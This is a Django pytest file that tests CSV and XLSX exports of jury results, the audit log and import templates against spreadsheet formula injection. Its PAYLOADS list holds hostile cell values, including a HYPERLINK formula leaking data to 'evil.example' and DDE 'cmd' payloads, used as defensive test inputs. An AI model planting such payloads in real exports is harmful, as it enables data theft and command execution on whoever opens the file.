"""Issue 14, finding 3: formula injection in the exports. A candidate named
``=HYPERLINK(…)`` became a live formula in the jury results' XLSX, and the CSV wrote ``=``,
``+``, ``-``, ``@``, tab and CR prefixes raw. Every CSV/XLSX export now goes through
``core.spreadsheets``: CSV cells are quoted with ``'``, XLSX cells are strings (never
``data_type == "f"``), with the ``quotePrefix`` style when they look like a formula.

The exports: jury results (CSV, XLSX), the audit log (CSV), the import templates (CSV,
XLSX — fixed content, through the same writer)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from candidates import importing
from centres.models import AuditEntry
from core import spreadsheets
from juries.models import AgendaItem, Decision, Outcome
from tests.juries.factories import new_session, ready_dossier, referential

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")',
    "+33 6 12 34 56 78+A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _no_pdf_rendering(monkeypatch):
    monkeypatch.setattr("documents.services.enqueue_render", lambda document_id: True)


def _csv(response) -> list[list[str]]:
    body = response.content if not response.streaming else b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def _assert_neutral_csv(rows, payloads):
    cells = [cell for row in rows for cell in row]
    for payload in payloads:
        assert payload not in cells, repr(payload)  # never raw
        assert "'" + payload in cells, repr(payload)  # quoted, text kept
    for cell in cells:
        assert not cell.startswith(spreadsheets.FORMULA_PREFIXES), repr(cell)


def _assert_neutral_xlsx(content: bytes, payloads=()):
    workbook = load_workbook(io.BytesIO(content))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
                    if cell.value.startswith(spreadsheets.FORMULA_PREFIXES):
                        assert cell.quotePrefix, (cell.coordinate, cell.value)
    for payload in payloads:
        # the text itself, as a string cell; openpyxl's lxml writer keeps a carriage return
        # (``&#13;``), its plain writer leaves it raw and XML reads it back as a newline
        assert payload in values or payload.replace("\r", "\n") in values, repr(payload)


@pytest.fixture
def hostile_results(world):
    """One frozen decision per payload, the payload as the candidate's names."""
    version = referential()
    session = new_session(world, version, place=PAYLOADS[0])
    for index, payload in enumerate(PAYLOADS):
        dossier = ready_dossier(
            world.centre_a, version, birth_name=payload, usage_name="", first_names=payload
        )
        item = AgendaItem.objects.create(session=session, dossier=dossier, position=index)
        Decision.objects.create(
            centre=world.centre_a,
            item=item,
            dossier=dossier,
            outcome=Outcome.PARTIAL,
            decided_at=timezone.now(),
            frozen_at=timezone.now(),
            revocation_reason=payload,
        )


def test_jury_results_csv_neutralises_formulas(client, world, hostile_results):
    client.force_login(world.user("staff"))
    rows = _csv(client.get(reverse("juries:results_csv")))
    assert len(rows) == 1 + len(PAYLOADS)
    _assert_neutral_csv(rows, PAYLOADS)
    assert rows[1][1].count("/") == 2  # dates still written the French way


def test_jury_results_xlsx_has_no_formula(client, world, hostile_results):
    client.force_login(world.user("staff"))
    response = client.get(reverse("juries:results_xlsx"))
    assert response.status_code == 200
    _assert_neutral_xlsx(response.content, PAYLOADS)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=2, column=2).is_date  # dates stay typed


def test_audit_log_csv_neutralises_formulas(client, world):
    admin = world.user("centre_admin")
    for index, payload in enumerate(PAYLOADS):
        AuditEntry.objects.create(
            centre=world.centre_a,
            actor=admin,
            action="test.payload",
            subject_type="x",
            subject_id=str(index),
            reason=payload,
        )
    client.force_login(admin)
    response = client.get(reverse("centres:audit_export"), {"action": "test."})
    rows = _csv(response)
    assert len(rows) == 1 + len(PAYLOADS)
    _assert_neutral_csv(rows, PAYLOADS)


def test_import_templates_go_through_the_same_writer():
    rows = list(
        csv.reader(io.StringIO(importing.template_csv().decode("utf-8-sig")), delimiter=";")
    )
    assert rows[0][0] == importing.COLUMNS[0].header
    _assert_neutral_csv(rows, [])
    _assert_neutral_xlsx(importing.template_xlsx())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_itself(payload):
    assert spreadsheets.csv_cell(payload) == "'" + payload
    assert spreadsheets.csv_cell("Dupont") == "Dupont"
    workbook = spreadsheets.new_workbook()
    spreadsheets.xlsx_sheet(workbook.active, [[payload, "Dupont", 3]])
    _assert_neutral_xlsx(spreadsheets.xlsx_bytes(workbook), [payload])


def test_no_export_writes_around_the_one_writer():
    """A new export must use ``core.spreadsheets`` (bench/ is a tool, not the product)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = [
        "core", "accounts", "centres", "cqpm", "candidates", "evaluations", "juries", "documents"
    ]  # fmt: skip
    offenders = []
    for app in apps:
        for path in (root / app).rglob("*.py"):
            if path.name == "spreadsheets.py" or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            for marker in ("csv.writer(", "csv.DictWriter(", "Workbook("):
                if marker in text:
                    offenders.append(f"{path.relative_to(root)}: {marker}")
    assert offenders == []
